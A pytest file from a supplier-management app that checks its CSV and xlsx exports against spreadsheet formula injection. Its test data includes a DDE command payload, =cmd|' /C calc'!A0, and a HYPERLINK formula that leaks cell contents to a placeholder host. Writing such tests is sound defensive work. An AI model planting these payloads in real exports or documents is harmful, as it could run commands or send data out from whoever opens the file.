"""Issue class 1, spreadsheet formula injection: every xlsx/CSV goes through app/reports/tabular.py,
which stores text that a spreadsheet could run as text, and numbers as numbers."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text, update

from app.reports import tabular

ROOT = Path(__file__).resolve().parents[2]
EVIL = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
DANGEROUS = [EVIL, LINK, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _all_cells(path: Path):
    wb = load_workbook(path)  # not data_only: a formula would come back as its formula text
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_csv_cells_that_could_run_get_a_quote_and_numbers_stay(tmp_path):
    out = tmp_path / "t.csv"
    tabular.write_csv(out, ["name", "n"], [[v, -3.5] for v in DANGEROUS] + [["-12", -7], ["+5.0%", 0], ["plain", 1]])
    rows = _csv_rows(out)[1:]
    for value, row in zip(DANGEROUS, rows):
        assert row[0] == "'" + value
        assert row[1] == "-3.5"
    assert rows[-3:] == [["-12", "-7"], ["+5.0%", "0"], ["plain", "1"]]


def test_xlsx_text_is_never_a_formula(tmp_path):
    out = tmp_path / "t.xlsx"
    tabular.write_xlsx(out, ["name", "n"], [[v, -3.5] for v in DANGEROUS])
    ws = load_workbook(out).active
    for r, value in enumerate(DANGEROUS, start=2):
        assert ws.cell(r, 1).data_type == "s"
        assert ws.cell(r, 1).value == value.replace("\r", "\n")  # XML keeps no bare CR
        assert ws.cell(r, 2).data_type == "n" and ws.cell(r, 2).value == -3.5


@pytest.fixture
def evil_demo(demo_db):
    """The demo with one supplier named like a formula (and its notes a hyperlink formula)."""
    from app.models.suppliers.tables import Supplier

    with demo_db.begin() as s:
        code = s.execute(text("SELECT s.code FROM suppliers s JOIN evaluation_results r ON r.supplier_id = s.id "
                              "ORDER BY s.code LIMIT 1")).scalar()
        s.execute(update(Supplier).where(Supplier.code == code).values(name_zh=EVIL, name_en=EVIL, notes=LINK,
                                                                        city="@evil"))
        period = s.execute(text("SELECT max(period) FROM evaluation_results")).scalar()
    return demo_db, code, period


def _assert_safe_xlsx(path: Path) -> int:
    found = 0
    for cell in _all_cells(path):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(("=", "@")):
            assert cell.data_type == "s"
            found += 1
    return found


def _assert_safe_csv(path: Path) -> int:
    found = 0
    for row in _csv_rows(path):
        for cell in row:
            assert not tabular.is_formula_like(cell), cell
            found += cell.startswith("'=") or cell.startswith("'@")
    return found


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
def test_grade_list_exports_store_a_formula_name_as_text(evil_demo, tmp_path, lang):
    from app.models.evaluation.service import grade_list
    from app.reports.grade_list import write_grade_list

    db, _code, period = evil_demo
    gl = grade_list(db, period)
    assert _assert_safe_xlsx(write_grade_list(gl, tmp_path / "g.xlsx", lang)) >= 1
    assert _assert_safe_csv(write_grade_list(gl, tmp_path / "g.csv", lang)) >= 1


def test_sourcing_plan_exports_store_a_formula_name_as_text(evil_demo, tmp_path):
    from app.models.evaluation.sourcing import sourcing_plan
    from app.reports.sourcing import write_sourcing_plan

    db, _code, period = evil_demo
    plan = sourcing_plan(db, period)
    _assert_safe_xlsx(write_sourcing_plan(plan, tmp_path / "s.xlsx", "en"))
    _assert_safe_csv(write_sourcing_plan(plan, tmp_path / "s.csv", "en"))


def test_qualified_list_exports_store_text_as_text(evil_demo, tmp_path):
    from app.models.suppliers.approval import qualified_list
    from app.reports.qualified_list import export_qualified

    db, _code, _period = evil_demo
    df = qualified_list(db)
    df.loc[df.index[:1], "supplier_name_zh"] = EVIL
    export_qualified(df, tmp_path / "q.xlsx", lang="zh_CN")
    export_qualified(df, tmp_path / "q.csv", lang="zh_CN")
    assert _assert_safe_xlsx(tmp_path / "q.xlsx") >= 1
    assert _assert_safe_csv(tmp_path / "q.csv") >= 1


def test_supplier_master_export_stores_text_as_text(evil_demo, tmp_path):
    from app.models.suppliers.imports import export_suppliers

    db, code, _period = evil_demo
    export_suppliers(db, tmp_path / "m.xlsx")
    export_suppliers(db, tmp_path / "m.csv")
    assert _assert_safe_xlsx(tmp_path / "m.xlsx") >= 3  # names, notes and city of that supplier
    assert _assert_safe_csv(tmp_path / "m.csv") >= 3
    row = next(r for r in _csv_rows(tmp_path / "m.csv") if r[0] == code)
    assert row[1] == "'" + EVIL  # the quote is added on export only …


def test_supplier_export_reimports_without_the_quote(evil_demo, tmp_path):
    """… and taken off again when the same file is imported, so a round trip changes nothing."""
    from app.models.suppliers.imports import export_suppliers, import_suppliers
    from app.models.suppliers.tables import Supplier

    db, code, _period = evil_demo
    export_suppliers(db, tmp_path / "m.csv")
    import_suppliers(db, tmp_path / "m.csv")
    with db.begin() as s:
        sup = s.query(Supplier).filter_by(code=code).one()
        assert (sup.name_zh, sup.notes, sup.city) == (EVIL, LINK, "@evil")


def test_only_the_shared_writer_writes_spreadsheets():
    """No module but app/reports/tabular.py writes CSV or creates a workbook."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|(?<![_\w])Workbook\(|\.to_csv\(|\.to_excel\(|xlsxwriter")
    offenders = []
    for path in sorted((ROOT / "app").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel == "app/reports/tabular.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if pattern.search(line):
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert offenders == []
